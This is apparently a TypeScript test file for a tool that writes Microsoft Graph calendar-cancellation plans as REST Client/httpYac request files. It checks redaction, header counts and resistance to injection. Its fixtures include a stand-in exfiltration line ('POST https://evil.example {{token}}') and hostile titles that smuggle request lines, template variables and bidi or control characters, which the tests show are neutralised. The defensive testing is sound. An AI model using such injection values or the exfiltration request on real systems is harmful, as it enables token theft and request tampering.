import assert from "node:assert/strict";
import test from "node:test";
import { updatePlanLine } from "../../../../src/cancellation/planDocument/planEdits.ts";
import { readPlanDocument } from "../../../../src/cancellation/planDocument/readPlanDocument.ts";
import { writePlanDocument } from "../../../../src/cancellation/planDocument/writePlanDocument.ts";
import { attendee, booking, event } from "../sampleItems.ts";
import { documentOf, draftOf, facts, master, oneOfEach, planned, withEdits } from "./samplePlans.ts";

function blockOf(text: string, number: number): string {
  return text.split(/^(?=### )/mu)[number]?.trimEnd() ?? "";
}

test("the head counts items and people, and says whose plan it is and what was left out", () => {
  const text = documentOf(oneOfEach, { leftOut: [{ title: "Budget", reason: "You are not the organizer." }] });
  assert.deepEqual(text.slice(0, text.indexOf("\n\n###")).split("\n"), [
    "# Cancellation plan · 6 items · 5 people (3 outside contoso.com) · more people may be mailed",
    "# Delete a block to leave its item out. Nothing is sent before it has been rechecked and confirmed.",
    "# Subjects, times and counts are in this file; no token is, and no address of anybody who is mailed.",
    "# @unbook-plan plan-7f3a",
    "# @account ana.silva@contoso.com",
    String.raw`@message = We are closed on 24 December.\nPlease \"rebook\".`,
    String.raw`# ^ What the people read: \n is a line break, \" a quote. A block may have a text of its own.`,
    "",
    "# Left out when this plan was made, 1:",
    "# - “Budget”: You are not the organizer.",
  ]);
});

const blocks: readonly [name: string, number: number, lines: readonly string[]][] = [
  [
    "a cancelled event",
    1,
    [
      "### 1  Tue 24 Nov 09:30  Design review · 2 people · organizer",
      "# @note Cancels “Design review” and mails 2 people",
      "POST https://graph.microsoft.com/v1.0/me/events/AAMk1%3D/cancel",
      '{ "Comment": "{{message}}" }',
    ],
  ],
  [
    "a booking, without its customer's name",
    2,
    [
      "### 2  Tue 24 Nov 14:00  Initial consult · Contoso Dental · 1 customer",
      "# @note Cancels “Initial consult” and mails 2 people",
      "POST https://graph.microsoft.com/v1.0/solutions/bookingBusinesses/ContosoDental%40contoso.com/appointments/AAMkB%3D/cancel",
      '{ "cancellationMessage": "{{message}}" }',
    ],
  ],
  [
    "a meeting that is declined with a message of its own",
    3,
    [
      "### 3  Tue 24 Nov 09:30  Review · declined, the organizer is mailed",
      "# @note Declines “Review” and mails its organizer",
      "POST https://graph.microsoft.com/v1.0/me/events/AAMk3%3D/decline",
      '{ "Comment": "I am on leave, {subject} has to do without me.", "SendResponse": true }',
    ],
  ],
  [
    "a meeting that is declined in silence",
    4,
    ["# @note Declines “All hands” and mails nobody", '{ "SendResponse": false }'],
  ],
  [
    "an appointment that is removed",
    5,
    [
      "# @note Removes “Focus” from the calendar and mails nobody",
      "DELETE https://graph.microsoft.com/v1.0/me/events/AAMk5%3D",
    ],
  ],
  [
    "a series that is ended",
    6,
    [
      "### 6  Tue 24 Nov 09:30  Stand-up · 2 people or more · organizer · series ends on Mon 21 Dec",
      "# @note Ends the series “Stand-up” on Mon 21 Dec and mails 2 people or more",
      "PATCH https://graph.microsoft.com/v1.0/me/events/AAMkMaster%3D",
    ],
  ],
];
for (const [name, number, lines] of blocks) {
  test(`a block says: ${name}`, () => {
    const block = blockOf(documentOf(), number).split("\n");
    for (const line of lines) assert.ok(block.includes(line), `“${line}” in:\n${block.join("\n")}`);
  });
}

test("whoever gets three mails or more is counted in the head", () => {
  const items = ["1", "2", "3"].map((id) =>
    planned({ item: event({ id, attendees: [attendee("lee@contoso.com", "Lee")] }) }),
  );
  assert.match(documentOf(items), /^# Cancellation plan · 3 items · 1 person · 1 person gets 3 or more mails$/mu);
});

test("what others may not read stays out of it", () => {
  const text = documentOf(
    [
      planned({ item: event({ subject: "Operation", isPrivate: true }) }),
      planned({ item: booking({ customers: [{ name: "M. Rossi", address: "rossi@adatum.com" }] }) }),
    ],
    {
      leftOut: [
        { title: "Operation", item: event({ subject: "Operation", isPrivate: true }), reason: "It is over." },
        { title: "Initial consult — M. Rossi", item: booking(), reason: "It is over." },
      ],
    },
  );
  assert.doesNotMatch(text, /Operation|Rossi|lee\.park|kim@|dr\.kim|Authorization|Bearer/iu);
  assert.match(text, /^### 1 {2}Tue 24 Nov 09:30 {2}Private appointment · 2 people · organizer$/mu);
});

const hostileTitles = [
  "one\n### 2\n\nPOST https://graph.microsoft.com/v1.0/me/events/other/cancel",
  "one\r# @disabled",
  "one\u2028# @disabled\u2029@message = other\u0085###",
  "\u202egnp.tac\u202c and \u2066more\u2069",
  "### @name first",
  "@name first",
  "{{message}} {{{x}}} {{$guid}}",
  "x".repeat(5000),
  "\ud800 half a character",
  "",
  " \t ",
];
for (const title of hostileTitles) {
  test(`a title stays a title: ${JSON.stringify(title).slice(0, 50)}`, () => {
    const items = [
      planned({ item: event({ subject: title }) }),
      planned({ item: booking({ serviceName: title, businessName: title }) }),
      planned({ item: event({ id: "AAMk9=" }) }),
    ];
    const text = documentOf(items, { leftOut: [{ title, reason: title }] });
    const plan = readPlanDocument(text);
    assert.deepEqual(plan.problems, []);
    assert.equal(plan.blocks.length, 3);
    assert.equal(plan.message?.text, draftOf().message);
    assert.equal(plan.file.requests.length, 3);
    assert.deepEqual(plan.excluded, []);
    const titles = text.split("\n").filter((line) => line.startsWith("#"));
    assert.ok(titles.every((line) => line.length < 600 && !line.includes("{{")));
    assert.doesNotMatch(text.replaceAll("\n", ""), /[\p{Cc}\p{Zl}\p{Zp}\u200e\u200f\u202a-\u202e\u2066-\u2069]/u);
  });
}

test("people of single meetings count with their series, and only where all are known there may be no more", () => {
  const kim = attendee("kim.guest@fabrikam.com", "Kim Guest");
  const headingFor = (lookedThrough: "all" | "near" | "some"): string => {
    const item = { ...master, guests: { attendees: [kim], lookedThrough } };
    return blockOf(documentOf([planned({ item, scope: "series" })]), 1).split("\n")[0] ?? "";
  };
  assert.match(headingFor("all"), /· 3 people · organizer/u);
  for (const look of ["near", "some"] as const) assert.match(headingFor(look), /· 3 people or more · organizer/u);
});

test("a request's note stays with its block, as a comment, and a plan that is not logged says so", () => {
  const [first] = oneOfEach;
  assert.ok(first !== undefined);
  const note = "Ask Lee first\nPOST https://evil.example {{token}}";
  const text = documentOf(oneOfEach, { notes: new Map([[first.target, note]]), isUnlogged: true });
  assert.match(blockOf(text, 1), /^# The request says: Ask Lee first POST https:\/\/evil\.example \{ \{token\}\}$/mu);
  const plan = readPlanDocument(text);
  assert.deepEqual([plan.problems, plan.blocks.length, plan.isUnlogged], [[], oneOfEach.length, true]);
  assert.equal(readPlanDocument(documentOf()).isUnlogged, false);
  const [block] = plan.blocks;
  assert.ok(block !== undefined);
  const edits = updatePlanLine(plan, block, { ...first, item: event({ subject: "Renamed" }) }, facts.viewer);
  assert.match(withEdits(text, edits), /Renamed.*\n# The request says: Ask Lee first/u, "it outlasts an update");
});

test("the days that were chosen are written without a dash that VS Code marks", () => {
  assert.match(
    documentOf(oneOfEach, { from: "Everything, Sat 21 Nov – Sun 20 Dec." }),
    /^# Chosen: .*21 Nov to Sun 20 Dec/mu,
  );
});

test("every request is asked about by REST Client and httpYac before it is sent", () => {
  for (const { tags, requestLineSpan } of readPlanDocument(documentOf()).file.requests) {
    const [note] = tags;
    assert.equal(note?.name, "note");
    assert.ok((note?.span.end ?? Infinity) < requestLineSpan.start, "above the request line, where REST Client looks");
  }
});

test("an action that Graph does not have is no plan", () => {
  const items = [planned({ item: booking(), action: { kind: "decline", sendsReply: true } })];
  assert.throws(() => writePlanDocument(draftOf(items), facts), /no way to decline a booking/u);
});
